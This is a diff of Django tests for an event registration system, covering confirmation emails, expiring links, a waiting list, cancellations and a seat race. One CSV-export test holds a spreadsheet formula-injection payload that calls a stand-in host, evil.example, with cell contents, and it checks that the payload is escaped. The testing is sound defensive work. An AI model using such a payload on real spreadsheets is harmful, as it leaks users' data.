@@ -4,6 +4,7 @@ import contextlib
 import csv
 import datetime
 import io
+import re
 import threading
 from urllib.parse import quote
 
@@ -18,7 +19,7 @@ from django.test import Client
 from django.utils import timezone
 from wagtail.models import GroupPagePermission
 
-from events.models import EventPage, Registration
+from events.models import EventPage, Registration, RegistrationStatus
 from tests.factories import SchoolFactory
 
 NOW = datetime.datetime(2026, 11, 23, 12, 0, tzinfo=datetime.UTC)
@@ -49,24 +50,58 @@ def data(**changes):
         "email": "Teacher@School.example",
         "organisation": "МОУ СОШ № 5",
         "role": "учитель математики",
+        "consent": "on",
     }
     values.update(changes)
     return values
 
 
-def test_registration_saves_sends_confirmation_and_redirects(client, event):
+def confirm_link(message):
+    return re.search(r"https?://\S+/confirm/\S+/", message.body).group(0)
+
+
+def test_registration_holds_a_seat_only_after_the_link_in_the_email(client, event):
     response = client.post(URL, data())
     assert response.status_code == 302
     assert response["Location"] == URL + "?registered=1#registration"
     registration = Registration.objects.get()
     assert registration.email == "teacher@school.example"
-    assert len(mail.outbox) == 1
-    assert mail.outbox[0].to == ["teacher@school.example"]
-    assert "Семинар" in mail.outbox[0].subject
-    assert "9 декабря 2026, 10:00–12:00" in mail.outbox[0].body
+    assert registration.status == RegistrationStatus.PENDING
+    assert registration.consent_at == NOW
+    [message] = mail.outbox
+    assert message.to == ["teacher@school.example"]
+    assert message.subject == "Подтвердите регистрацию: Семинар"
+    assert "9 декабря 2026, 10:00–12:00 МСК" in message.body
+    # The first line is the site's, not the visitor's name.
+    assert message.body.startswith("Чтобы подтвердить регистрацию на мероприятие «Семинар»")
     page = client.get(response["Location"])
-    assert "Вы зарегистрированы" in page.text
-    assert "Свободных мест: 1 из 2" in page.text
+    assert "Заявка принята. Проверьте почту" in page.text
+    assert "в течение 48 часов" in page.text
+    assert "Свободных мест: 2 из 2" in page.text
+
+    confirmed = client.get(confirm_link(message))
+    assert confirmed.status_code == 302
+    own_page = client.get(confirmed["Location"])
+    assert "Регистрация подтверждена: место за вами." in own_page.text
+    assert "no-store" in own_page["Cache-Control"]
+    assert Registration.objects.get().status == RegistrationStatus.CONFIRMED
+    assert mail.outbox[1].body.startswith("Регистрация подтверждена")
+    assert "Свободных мест: 1 из 2" in client.get(URL).text
+    # The link followed again changes nothing and sends nothing.
+    client.get(confirm_link(message))
+    assert len(mail.outbox) == 2
+
+
+def test_an_expired_link_holds_no_seat(client, event, monkeypatch, settings):
+    client.post(URL, data())
+    later = NOW + datetime.timedelta(hours=settings.REGISTRATION_CONFIRM_HOURS, minutes=1)
+    monkeypatch.setattr(timezone, "now", lambda: later)
+    response = client.get(confirm_link(mail.outbox[0]))
+    assert "Срок ссылки истёк" in response.text
+    assert Registration.objects.get().status == RegistrationStatus.PENDING
+    # The same address may register again: the expired request is dropped.
+    assert client.post(URL, data()).status_code == 302
+    assert Registration.objects.count() == 1
 
 
 def test_school_from_the_registry(client, event):
@@ -79,7 +114,7 @@ def test_duplicate_email_is_refused_and_the_form_keeps_what_was_typed(client, ev
     client.post(URL, data())
     response = client.post(URL, data(email="teacher@school.example", name="Другая Анна"))
     assert response.status_code == 200
-    assert "уже зарегистрировались" in response.text
+    assert "уже отправлено письмо" in response.text
     soup = BeautifulSoup(response.content, "html.parser")
     assert soup.select_one("#id_name")["value"] == "Другая Анна"
     assert soup.select_one("#id_role")["value"] == "учитель математики"
@@ -92,13 +127,40 @@ def test_school_or_organisation_is_required(client, event):
     assert not Registration.objects.exists()
 
 
-def test_capacity_closes_the_form(client, event):
-    client.post(URL, data(email="a@example.org"))
-    client.post(URL, data(email="b@example.org"))
-    response = client.post(URL, data(email="c@example.org"))
-    assert Registration.objects.count() == 2
-    assert "Все места заняты." in response.text
-    assert 'name="email"' not in response.text
+def register_and_confirm(client, email):
+    client.post(URL, data(email=email))
+    return client.get(confirm_link(mail.outbox[-1]))["Location"]
+
+
+def test_a_full_event_takes_a_waiting_list_and_a_cancellation_promotes_the_first(client, event):
+    first = register_and_confirm(client, "a@example.org")
+    register_and_confirm(client, "b@example.org")
+    page = client.get(URL).text
+    assert "Свободных мест: 0 из 2. Можно записаться в лист ожидания" in page
+    assert "Записаться в лист ожидания" in page
+    waiting = register_and_confirm(client, "c@example.org")
+    register_and_confirm(client, "d@example.org")
+    assert "вы в листе ожидания" in client.get(waiting).text
+    assert mail.outbox[-1].body.startswith("Все места уже заняты: вы в листе ожидания.")
+    # The confirmation's link to cancel: its page asks first (a mail scanner's GET cancels
+    # nothing), then a POST cancels.
+    assert "Отменить регистрацию" in client.get(first).text
+    assert Registration.objects.get(email="a@example.org").status == RegistrationStatus.CONFIRMED
+    client.post(first, {"action": "cancel"})
+
+    statuses = dict(Registration.objects.values_list("email", "status"))
+    assert statuses == {
+        "a@example.org": "cancelled",
+        "b@example.org": "confirmed",
+        "c@example.org": "confirmed",
+        "d@example.org": "waiting",
+    }
+    promotion = mail.outbox[-1]
+    assert promotion.to == ["c@example.org"]
+    assert promotion.subject == "Освободилось место: Семинар"
+    assert "Регистрация отменена." in client.get(first).text
+    # A cancelled visitor may register again.
+    assert client.post(URL, data(email="a@example.org")).status_code == 302
 
 
 def test_deadline_closes_the_form(client, event):
@@ -121,7 +183,9 @@ def test_csrf_is_checked_and_works_with_the_token_from_the_page(event):
 
 def test_registration_page_is_not_cached_but_the_count_is_fresh(client, event):
     assert "Свободных мест: 2 из 2" in client.get(URL).text
-    Registration.objects.create(event=event, name="А", email="a@example.org", role="учитель")
+    Registration.objects.create(
+        event=event, name="А", email="a@example.org", role="учитель", status="confirmed"
+    )
     assert "Свободных мест: 1 из 2" in Client().get(URL).text
 
 
@@ -173,7 +237,7 @@ def test_csv_export_never_runs_what_a_visitor_typed_as_a_formula(client, event, 
     text = response.content.decode("utf-8-sig")
     header, row = csv.reader(io.StringIO(text), delimiter=";")
     assert header[1] == "ФИО"
-    assert row[1:] == [
+    assert row[1:5] == [
         """'=HYPERLINK("https://evil.example/?"&A1,"Иванова")""",
         "teacher@school.example",
         "'+7 (812) 123-45-67",
@@ -200,36 +264,41 @@ def test_csv_export_keeps_a_cyrillic_slug_in_the_file_name(client, make_event, c
     connection.vendor != "postgresql",
     reason="SQLite lets one writer in at a time (IMMEDIATE transactions): no race to lose there",
 )
-def test_two_visitors_after_the_last_place_get_one_registration(event, monkeypatch):
-    Registration.objects.create(event=event, **data(email="first@school.example"))
-    # Both visitors count the registrations; neither saves before the other has counted,
-    # unless the first one's count makes the second wait.
+def test_two_visitors_after_the_last_place_get_one_seat(event, monkeypatch):
+    Registration.objects.create(
+        event=event, status="confirmed", **data(email="first@school.example")
+    )
+    pending = [
+        Registration.objects.create(event=event, **data(email=f"{n}@school.example"))
+        for n in (2, 3)
+    ]
+    # Both visitors count the seats; neither saves before the other has counted, unless the
+    # first one's count makes the second wait.
     both_counted = threading.Barrier(2, timeout=2)
-    count = EventPage.registration_closed_reason
+    is_full = EventPage.is_full
 
-    def closed_reason_then_wait(page, taken, now=None):
-        reason = count(page, taken, now)
-        # Only the count inside the saving transaction; a broken barrier means the other
-        # visitor is waiting for the lock, as it should.
-        if transaction.get_connection().in_atomic_block:
-            with contextlib.suppress(threading.BrokenBarrierError):
-                both_counted.wait()
-        return reason
+    def is_full_then_wait(page, taken):
+        full = is_full(page, taken)
+        # A broken barrier means the other visitor is waiting for the lock, as it should.
+        with contextlib.suppress(threading.BrokenBarrierError):
+            both_counted.wait()
+        return full
 
-    monkeypatch.setattr(EventPage, "registration_closed_reason", closed_reason_then_wait)
-    statuses = []
+    monkeypatch.setattr(EventPage, "is_full", is_full_then_wait)
 
-    def visit(email):
+    def visit(registration):
         try:
-            statuses.append(Client().post(URL, data(email=email)).status_code)
+            Client().get(f"{URL}confirm/{registration.token}/")
         finally:
             db_connections.close_all()
 
-    visitors = [threading.Thread(target=visit, args=(f"{n}@school.example",)) for n in (2, 3)]
+    visitors = [threading.Thread(target=visit, args=(registration,)) for registration in pending]
     for visitor in visitors:
         visitor.start()
     for visitor in visitors:
         visitor.join()
 
-    assert sorted(statuses) == [200, 302]  # one registered, one told that places ran out
-    assert Registration.objects.filter(event=event).count() == event.capacity
+    statuses = sorted(
+        Registration.objects.exclude(email="first@school.example").values_list("status", flat=True)
+    )
+    assert statuses == ["confirmed", "waiting"]
